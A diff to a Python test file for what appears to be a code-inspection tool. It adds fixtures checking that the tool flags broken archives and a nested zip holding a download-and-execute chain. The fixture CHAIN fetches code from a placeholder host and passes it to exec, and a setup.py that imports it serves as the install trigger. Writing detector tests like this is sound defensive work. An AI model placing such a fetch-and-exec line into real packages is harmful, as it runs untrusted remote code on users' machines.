@@ -17,6 +17,8 @@ from support.inspection import Here
 BROKEN = gzip.compress(b"print(1)\n" * 50)[:-9]
 """A stream that ends early: what it holds is not known."""
 
+CHAIN = b"import requests\nexec(requests.get('https://a.invalid').text)\n"
+
 ASIDE = {  # files beside a broken archive `data/x.gz`, and whether the hole counts
     "nothing speaks of it": ({"app.py": b"print(1)\n"}, False),
     "a test opens it": ({"tests/test_x.py": b"import gzip\ngzip.open('data/x.gz')\n"}, False),
@@ -61,3 +63,21 @@ def test_a_hole_behind_a_limit_counts() -> None:
     read = gather_bytes("x.gz", gzip.compress(b"y" * 5000), Limits(total_bytes=3000))
     found = judge(read.files, read.gaps, link(read.files, Here()))
     assert str(found.verdict) == "review"
+
+
+PACKED = {  # files in an archive within the input, and the verdict
+    "a chain that nothing leads to": ({"get.py": CHAIN}, "review"),
+    "a chain that a trigger leads to": ({"get.py": CHAIN, "setup.py": b"import get\n"}, "block"),
+}
+
+
+@pytest.mark.parametrize(("files", "verdict"), PACKED.values(), ids=PACKED.keys())
+def test_a_chain_in_an_archive_within_the_input_is_grave_where_it_starts_there(
+    files: dict[str, bytes], verdict: str, tmp_path: Path
+) -> None:
+    with zipfile.ZipFile(tmp_path / "data.zip", "w") as archive:
+        for name, data in files.items():
+            archive.writestr(name, data)
+    (tmp_path / "app.py").write_bytes(b"print(1)\n")
+    assert str(inspect(tmp_path).verdict) == verdict
+    assert str(inspect(tmp_path / "data.zip").verdict) == "block"
